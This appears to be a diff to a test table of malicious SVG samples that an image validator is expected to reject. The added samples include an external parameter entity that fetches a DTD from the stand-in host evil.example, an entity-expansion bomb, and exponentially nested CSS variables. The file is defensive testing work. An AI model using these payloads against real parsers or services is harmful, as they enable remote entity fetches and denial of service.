@@ -77,7 +77,27 @@ SVGS = {
     "billion shapes": (repeats(), "repeat themselves"),
     "use of itself": (svg('<g id="a"><use href="#a"/></g>'), "repeat themselves"),
     "live text": (svg("<text>Hallo</text>"), "live text"),
-    "see-through": (svg('<rect style="opacity:50%" width="9" height="9"/>'), "transparency"),
+    "entity that builds on another": (
+        svg("<desc>&b;</desc>", '<!DOCTYPE svg [<!ENTITY a "x"><!ENTITY b "&a;">]>'),
+        "document type or entities",
+    ),
+    "parameter entity": (
+        svg("", '<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]>'),
+        "document type or entities",
+    ),
+    "long word, often": (
+        svg("<desc>" + "&a;" * 2_000 + "</desc>", f'<!DOCTYPE svg [<!ENTITY a "{"x" * 1_000}">]>'),
+        "document type or entities",
+    ),
+    "variables that multiply": (
+        svg(
+            "<style>svg{--a0:1 1 1 1;"
+            + "".join(f"--a{n}:" + f"var(--a{n - 1}) " * 10 + ";" for n in range(1, 10))
+            + "}</style>"
+            + '<path style="transform:var(--a9)" d="M0 0h9v9z"/><text>Ende</text>'
+        ),
+        "live text",
+    ),
     "no XML": (b"\x00\x01\x02", "not well-formed"),
     "another document": (b"<html/>", "not an SVG"),
     "no size": (svg("").replace(b' viewBox="0 0 80 96"', b""), "no usable size"),
